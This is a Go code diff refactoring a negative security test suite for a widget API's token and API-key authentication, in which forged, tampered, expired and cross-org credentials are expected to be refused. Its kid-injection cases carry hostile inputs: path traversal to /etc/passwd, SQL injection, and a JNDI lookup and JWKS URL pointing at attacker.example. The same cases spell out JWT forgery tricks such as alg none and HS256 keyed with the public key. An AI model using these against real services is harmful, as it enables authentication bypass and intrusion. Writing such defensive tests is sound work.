@@ -2,7 +2,6 @@ package attack
 
 import (
 	"bytes"
-	"cmp"
 	"crypto/ed25519"
 	"crypto/sha256"
 	"encoding/base64"
@@ -166,60 +165,6 @@ func sc(class, name, route, auth, body string, want Want) Case {
 	return call(class, name, route, body, want, "Authorization", auth)
 }
 
-// route is a widget route a user token is presented on.
-type route struct{ name, req, body string }
-
-var (
-	routeMe     = route{"GET /v1/widget/me", "GET /v1/widget/me", ""}
-	routeCreate = route{"POST /v1/widget/sessions", "POST /v1/widget/sessions", attackSessionBody}
-	routeList   = route{"GET /v1/widget/sessions", "GET /v1/widget/sessions", ""}
-	routeGet    = route{"GET /v1/widget/sessions/{A1's}", "GET /v1/widget/sessions/{SA1}", ""}
-	routePost   = route{"POST /v1/widget/sessions/{A1's}/messages", "POST /v1/widget/sessions/{SA1}/messages", attackContent}
-	routeForget = route{"DELETE /v1/widget/me", "DELETE /v1/widget/me", ""} // would erase the token's contact if let through
-
-	// allRoutes are the routes behind a user token; writeRoutes the read of
-	// /me and those that would store or erase something if let through.
-	allRoutes   = []route{routeMe, routeCreate, routeList, routeGet, routePost, routeForget}
-	writeRoutes = []route{routeMe, routeCreate, routePost, routeForget}
-)
-
-// userToken is a user token an attacker presents, with the widget token it
-// comes with ("" for org A's).
-type userToken struct {
-	name     string
-	needsKey bool
-	pk       string
-	make     func(f *Fixture) string
-	echo     []string // strings in it the answer must not repeat
-}
-
-func tok(name string, make func(f *Fixture) string) userToken {
-	return userToken{name: name, make: make}
-}
-
-func keyTok(name string, make func(f *Fixture) string) userToken {
-	return userToken{name: name, needsKey: true, make: make}
-}
-
-// fixed is a token of the fixture: fixed("{CA1}").
-func fixed(s string) func(*Fixture) string { return func(f *Fixture) string { return f.x(s) } }
-
-// tokenCases presents each token on each route and wants the same refusal.
-func tokenCases(class string, want Want, routes []route, toks ...userToken) []Case {
-	var cs []Case
-	for _, tk := range toks {
-		for _, rt := range routes {
-			cs = append(cs, Case{Class: class, Name: tk.name + ": " + rt.name, NeedsKey: tk.needsKey, Want: want,
-				Req: func(f *Fixture) Request {
-					req := f.widgetReq(rt.req, cmp.Or(tk.pk, "{A.pk}"), tk.make(f), rt.body)
-					req.Echo = tk.echo
-					return req
-				}})
-		}
-	}
-	return cs
-}
-
 func refusal(status int, code string) Want { return Want{Status: status, Code: code} }
 
 func ok(check func(*Fixture, *Response) []string) Want { return Want{Status: 200, Check: check} }
@@ -276,7 +221,7 @@ func algNoneCases() []Case {
 			return seg(h) + "." + seg(claims) + "." + sig // alg none: no signature, or a kept one
 		}
 	}
-	return tokenCases(ClassAlgNone, refusal(401, invalidToken), allRoutes,
+	return presented(ClassAlgNone, refusal(401, invalidToken), allRoutes,
 		tok("alg none, empty signature", none("none", true, false, false)),
 		tok("alg None", none("None", true, false, false)),
 		tok("alg NONE, no kid", none("NONE", false, false, false)),
@@ -299,7 +244,7 @@ func hs256Cases() []Case {
 	raw := func(f *Fixture) []byte { return f.PublicKey }
 	x := func(f *Fixture) []byte { return []byte(b64(f.PublicKey)) }
 	doc := func(f *Fixture) []byte { return f.JWKS }
-	return tokenCases(ClassAlgHS256, refusal(401, invalidToken), allRoutes,
+	return presented(ClassAlgHS256, refusal(401, invalidToken), allRoutes,
 		tok("HS256 keyed with the public key's bytes", hs("HS256", raw, false)),
 		tok("HS256 keyed with the JWKS x string", hs("HS256", x, false)),
 		tok("HS256 keyed with the whole JWKS", hs("HS256", doc, false)),
@@ -310,18 +255,18 @@ func hs256Cases() []Case {
 }
 
 func kidUnknownCases() []Case {
-	att := func(name string, header func(f *Fixture) map[string]any) userToken {
+	att := func(name string, header func(f *Fixture) map[string]any) credential {
 		return tok("attacker's key"+name, func(f *Fixture) string { return signEd(f.Attacker, header(f), f.contactClaims()) })
 	}
 	is := func(h map[string]any) func(*Fixture) map[string]any {
 		return func(*Fixture) map[string]any { return h }
 	}
-	genuine := func(name string, kid func(f *Fixture) string) userToken {
+	genuine := func(name string, kid func(f *Fixture) string) credential {
 		return keyTok("genuine signature under "+name, func(f *Fixture) string {
 			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": kid(f)}, f.contactClaims())
 		})
 	}
-	return tokenCases(ClassKIDUnknown, refusal(401, invalidToken), writeRoutes,
+	return presented(ClassKIDUnknown, refusal(401, invalidToken), writeRoutes,
 		att(", unknown kid", is(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1"})),
 		att(", no kid", is(map[string]any{"alg": "EdDSA", "typ": "JWT"})),
 		att(", the worker's kid", func(f *Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID} }),
@@ -340,7 +285,7 @@ func kidUnknownCases() []Case {
 }
 
 func kidInjectedCases() []Case {
-	var toks []userToken
+	var toks []credential
 	for _, k := range []struct{ name, kid string }{
 		{"path traversal", "../../etc/passwd"}, {"SQL", "' OR 1=1 --"}, {"4 KiB long", strings.Repeat("K", 4096)},
 		{"NUL byte", "x\x00y"}, {"URL", "https://attacker.example/jwks.json"}, {"JNDI", "${jndi:ldap://attacker.example/a}"},
@@ -348,12 +293,12 @@ func kidInjectedCases() []Case {
 	} {
 		h := map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}
 		toks = append(toks,
-			userToken{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid},
+			credential{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid},
 				make: func(f *Fixture) string { return signEd(f.Attacker, h, f.contactClaims()) }},
-			userToken{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid},
+			credential{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid},
 				make: func(f *Fixture) string { return f.signed(h, f.contactClaims()) }})
 	}
-	return tokenCases(ClassKIDInjected, refusal(401, invalidToken), writeRoutes, toks...)
+	return presented(ClassKIDInjected, refusal(401, invalidToken), writeRoutes, toks...)
 }
 
 // signedAt signs the claims of token t issued at now+at, valid for ttl.
@@ -362,24 +307,24 @@ func signedAt(t string, at, ttl time.Duration) func(*Fixture) string {
 }
 
 func expiredCases() []Case {
-	return tokenCases(ClassExpired, refusal(401, tokenExpired), allRoutes,
+	return presented(ClassExpired, refusal(401, tokenExpired), allRoutes,
 		keyTok("contact token expired an hour ago", signedAt("CA1", -2*time.Hour, time.Hour)),
 		keyTok("verified token expired ten minutes ago", signedAt("V", -70*time.Minute, time.Hour)))
 }
 
 func notYetValidCases() []Case {
-	return tokenCases(ClassNotYetValid, refusal(401, invalidToken), writeRoutes,
+	return presented(ClassNotYetValid, refusal(401, invalidToken), writeRoutes,
 		keyTok("issued an hour from now", signedAt("CA1", time.Hour, time.Hour)),
 		keyTok("nbf an hour from now", resigned(func(_ *Fixture, c map[string]any) { c["nbf"] = time.Now().Add(time.Hour).Unix() })),
 		keyTok("verified, issued a day from now", signedAt("V", 24*time.Hour, 48*time.Hour)))
 }
 
 func otherOrgCases() []Case {
-	return tokenCases(ClassOtherOrg, refusal(401, invalidToken), allRoutes,
+	return presented(ClassOtherOrg, refusal(401, invalidToken), allRoutes,
 		tok("org B's contact token with A's widget token", fixed("{CB1}")),
 		tok("org B's verified token (same user_id) with A's widget token", fixed("{VB}")),
-		userToken{name: "org A's contact token with B's widget token", pk: "{B.pk}", make: fixed("{CA1}")},
-		userToken{name: "org A's verified token with B's widget token", pk: "{B.pk}", make: fixed("{V}")},
+		credential{name: "org A's contact token with B's widget token", pk: "{B.pk}", make: fixed("{CA1}")},
+		credential{name: "org A's verified token with B's widget token", pk: "{B.pk}", make: fixed("{V}")},
 		keyTok("genuine signature, aud org B, with A's widget token", resigned(func(f *Fixture, c map[string]any) { c["aud"] = []string{f.v("B.ID")} })),
 		keyTok("genuine signature, aud a prefix-extension of org A", resigned(func(f *Fixture, c map[string]any) { c["aud"] = f.v("A.ID") + "x" })),
 	)
@@ -393,10 +338,10 @@ func tamper(t string, fn func(f *Fixture, c map[string]any)) func(f *Fixture) st
 }
 
 func tamperedCases() []Case {
-	return tokenCases(ClassTampered, refusal(401, invalidToken), writeRoutes,
+	return presented(ClassTampered, refusal(401, invalidToken), writeRoutes,
 		tok("contact sub changed to device A2", tamper("CA1", func(f *Fixture, c map[string]any) { c["sub"] = f.v("DevA2") })),
 		tok("contact cid changed", tamper("CA1", func(f *Fixture, c map[string]any) { c["cid"] = uuid.NewString() })),
-		userToken{name: "aud changed to org B, with B's widget token", pk: "{B.pk}",
+		credential{name: "aud changed to org B, with B's widget token", pk: "{B.pk}",
 			make: tamper("CA1", func(f *Fixture, c map[string]any) { c["aud"] = []string{f.v("B.ID")} })},
 		tok("exp pushed a year ahead", tamper("CA1", func(f *Fixture, c map[string]any) { c["exp"] = time.Now().AddDate(1, 0, 0).Unix() })),
 		tok("verified: external_id changed to ws-2", tamper("VExt", func(f *Fixture, c map[string]any) { c["external_id"] = OtherExt })),
@@ -426,7 +371,7 @@ func sigStrippedCases() []Case {
 		}
 	}
 	empty := func(*Fixture, string) string { return "" }
-	return tokenCases(ClassSigStripped, refusal(401, invalidToken), allRoutes,
+	return presented(ClassSigStripped, refusal(401, invalidToken), allRoutes,
 		tok("contact token, empty signature", strip("CA1", empty)),
 		tok("contact token, no signature segment", strip("CA1", nil)),
 		tok("verified token, empty signature", strip("V", empty)),
@@ -440,13 +385,10 @@ func sigStrippedCases() []Case {
 
 func revokedCases() []Case {
 	r := tok("revoked user's token", fixed("{R}"))
-	own := []route{
-		{"GET /v1/widget/sessions/{its own}", "GET /v1/widget/sessions/{SR}", ""},
-		{"POST /v1/widget/sessions/{its own}/messages", "POST /v1/widget/sessions/{SR}/messages", attackContent},
-	}
+	own := []apiRoute{rGet.on("{SR}", "{its own}"), rPost.on("{SR}", "{its own}")}
 	want := refusal(401, tokenRevoked)
-	return slices.Concat(tokenCases(ClassRevoked, want, allRoutes, r), tokenCases(ClassRevoked, want, own, r),
-		tokenCases(ClassRevoked, want, writeRoutes, keyTok("revoked user's claims re-signed without iat_ms", func(f *Fixture) string {
+	return slices.Concat(presented(ClassRevoked, want, allRoutes, r), presented(ClassRevoked, want, own, r),
+		presented(ClassRevoked, want, writeRoutes, keyTok("revoked user's claims re-signed without iat_ms", func(f *Fixture) string {
 			c := f.claimsOf("R")
 			delete(c, "iat_ms")
 			return f.signed(nil, c)
@@ -456,7 +398,7 @@ func revokedCases() []Case {
 func oversizedCases() []Case {
 	pad := func(n int) string { return strings.Repeat("A", n) }
 	platform := func(status int, code string) Want { return Want{Status: status, Code: code, Platform: true} }
-	return append(tokenCases(ClassOversized, refusal(401, invalidToken), []route{routeMe},
+	return append(presented(ClassOversized, refusal(401, invalidToken), []apiRoute{rMe},
 		keyTok("9 KiB token with a genuine signature", resigned(func(_ *Fixture, c map[string]any) { c["pad"] = pad(9 << 10) }))),
 		Case{Class: ClassOversized, Name: "100 KB token: POST /v1/widget/sessions", Want: platform(401, invalidToken), Req: func(f *Fixture) Request {
 			h, p, s := jwtParts(f.v("CA1"))
@@ -580,7 +522,7 @@ func contactAsVerifiedCases() []Case {
 		return func(f *Fixture) string { return withPayload(f.v("CA1"), edit(f.claimsOf("CA1"), fn)) }
 	}
 	const cl = ClassContactAsVerified
-	return append(tokenCases(cl, refusal(401, invalidToken), writeRoutes,
+	return append(presented(cl, refusal(401, invalidToken), writeRoutes,
 		tok("kind flipped to verified as the victim, signature kept", flip(func(c map[string]any) {
 			c["kind"], c["sub"], c["uid"], c["email"] = "verified", VictimID, VictimID, VictimEmail
 			delete(c, "cid")
@@ -658,38 +600,6 @@ func externalIDCases() []Case {
 
 // ---- api keys, admin token, credential kinds ----
 
-// serverRoutes are the org-server routes, each with a body that would store
-// something if let through; adminRoutes the vendor routes, each of which
-// would change something.
-var (
-	serverRoutes = []route{
-		{"GET /v1/sessions", "GET /v1/sessions", ""},
-		{"GET /v1/sessions/{id}", "GET /v1/sessions/{SA1}", ""},
-		{"POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", attackContent},
-		{"POST /v1/users/authenticate", "POST /v1/users/authenticate", attackAuthenticateBody},
-		{"POST /v1/users/revoke", "POST /v1/users/revoke", attackRevokeVictimBody},
-	}
-	adminRoutes = []route{
-		{"POST /v1/admin/orgs", "POST /v1/admin/orgs", probeOrgBody},
-		{"POST /v1/admin/orgs/{A}/api-keys", "POST /v1/admin/orgs/{A.ID}/api-keys", ""},
-		{"DELETE /v1/admin/orgs/{A}/api-keys/{A's key}", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}", ""},
-	}
-)
-
-// authCases presents each Authorization value (a template, or made by a
-// func) on each route and wants the same refusal.
-func authCases(class string, want Want, routes []route, auths ...userToken) []Case {
-	var cs []Case
-	for _, a := range auths {
-		for _, rt := range routes {
-			cs = append(cs, Case{Class: class, Name: a.name + ": " + rt.name, Want: want, Req: func(f *Fixture) Request {
-				return f.req(rt.req, rt.body, "Authorization", a.make(f))
-			}})
-		}
-	}
-	return cs
-}
-
 func apiKeyOtherOrgCases() []Case {
 	const cl = ClassAPIKeyOtherOrg
 	nf := refusal(404, notFound)
@@ -709,15 +619,15 @@ func apiKeyOtherOrgCases() []Case {
 }
 
 func apiKeyDeletedCases() []Case {
-	return authCases(ClassAPIKeyDeleted, refusal(401, unauthorized), serverRoutes, tok("deleted key", fixed("Bearer {deleted}")))
+	return presented(ClassAPIKeyDeleted, refusal(401, unauthorized), serverRoutes, tok("deleted key", fixed("Bearer {deleted}")))
 }
 
 func apiKeyForgedCases() []Case {
-	b := func(name string, key func(f *Fixture) string) userToken {
+	b := func(name string, key func(f *Fixture) string) credential {
 		return tok(name, func(f *Fixture) string { return "Bearer " + key(f) })
 	}
 	sum := func(f *Fixture) []byte { s := sha256.Sum256([]byte(f.v("A.key"))); return s[:] }
-	keys := []userToken{
+	keys := []credential{
 		b("a random sk_ key", func(*Fixture) string { return "sk_" + randHex(24) }),
 		b("A's key with its last character changed", func(f *Fixture) string {
 			k := f.v("A.key")
@@ -734,15 +644,15 @@ func apiKeyForgedCases() []Case {
 	want := refusal(401, unauthorized)
 	var cs []Case
 	for _, k := range keys { // GET /v1/sessions, POST /v1/users/revoke
-		cs = append(cs, authCases(ClassAPIKeyForged, want, []route{serverRoutes[0], serverRoutes[4]}, k)...)
+		cs = append(cs, presented(ClassAPIKeyForged, want, []apiRoute{rOrgList, rRevoke}, k)...)
 	}
-	return append(cs, authCases(ClassAPIKeyForged, want, serverRoutes[4:],
+	return append(cs, presented(ClassAPIKeyForged, want, []apiRoute{rRevoke},
 		tok("A's key without the Bearer scheme", fixed("{A.key}")), tok("A's key with scheme Basic", fixed("Basic {A.key}")),
 		tok("A's key with scheme Token", fixed("Token {A.key}")), tok("empty Bearer", fixed("Bearer ")), tok("no Authorization", fixed("")))...)
 }
 
 func adminForgedCases() []Case {
-	return authCases(ClassAdminForged, refusal(401, unauthorized), adminRoutes,
+	return presented(ClassAdminForged, refusal(401, unauthorized), adminRoutes,
 		tok("no Authorization", fixed("")), tok("empty Bearer", fixed("Bearer ")),
 		tok("admin token with a character appended", fixed("Bearer {admin}x")),
 		tok("admin token truncated", func(f *Fixture) string { return "Bearer " + f.v("admin")[:len(f.v("admin"))-1] }),
@@ -755,12 +665,12 @@ func wrongKindCases() []Case {
 	no := refusal(401, unauthorized)
 	var cs []Case
 	// Widget token, admin token and user tokens as api keys.
-	for _, k := range []userToken{tok("widget token as api key", fixed("Bearer {A.pk}")), tok("admin token as api key", fixed("Bearer {admin}")),
+	for _, k := range []credential{tok("widget token as api key", fixed("Bearer {A.pk}")), tok("admin token as api key", fixed("Bearer {admin}")),
 		tok("contact token as api key", fixed("Bearer {CA1}")), tok("verified token as api key", fixed("Bearer {V}"))} {
-		cs = append(cs, authCases(cl, no, []route{serverRoutes[0], serverRoutes[3], serverRoutes[4]}, k)...)
+		cs = append(cs, presented(cl, no, []apiRoute{rOrgList, rAuthenticate, rRevoke}, k)...)
 	}
 	// Api key, widget token, verified token as the admin token.
-	cs = append(cs, authCases(cl, no, adminRoutes, tok("api key as admin token", fixed("Bearer {A.key}")),
+	cs = append(cs, presented(cl, no, adminRoutes, tok("api key as admin token", fixed("Bearer {A.key}")),
 		tok("widget token as admin token", fixed("Bearer {A.pk}")), tok("verified token as admin token", fixed("Bearer {V}")))...)
 	// Api key, admin token, user token as the widget token.
 	for _, k := range []struct{ name, pk string }{
@@ -770,7 +680,7 @@ func wrongKindCases() []Case {
 			wcOn(cl, k.name+": POST /v1/widget/sessions", "POST /v1/widget/sessions", k.pk, "{CA1}", attackSessionBody, no))
 	}
 	// Api key, widget token, admin token as the user token.
-	cs = append(cs, tokenCases(cl, refusal(401, invalidToken), writeRoutes, tok("api key as user token", fixed("{A.key}")),
+	cs = append(cs, presented(cl, refusal(401, invalidToken), writeRoutes, tok("api key as user token", fixed("{A.key}")),
 		tok("widget token as user token", fixed("{A.pk}")), tok("admin token as user token", fixed("{admin}")))...)
 	// The widget token alone, in Authorization.
 	return append(cs, wcOn(cl, "widget token in Authorization, no X-Widget-Token: POST /v1/widget/sessions", "POST /v1/widget/sessions", "", "{A.pk}", attackSessionBody, no))
@@ -792,7 +702,7 @@ func corsOriginCases() []Case {
 	}
 	for _, o := range origins[:2] {
 		for _, rt := range allRoutes[:5] {
-			cs = append(cs, call(ClassCORSOrigin, o.name+": "+rt.name, rt.req, rt.body, deny, "X-Widget-Token", "{A.pk}", "Authorization", "Bearer {CA1}", "Origin", o.origin))
+			cs = append(cs, call(ClassCORSOrigin, o.name+": "+rt.name(), rt.route(), rt.body, deny, "X-Widget-Token", rt.pk, "Authorization", rt.auth, "Origin", o.origin))
 		}
 	}
 	return cs
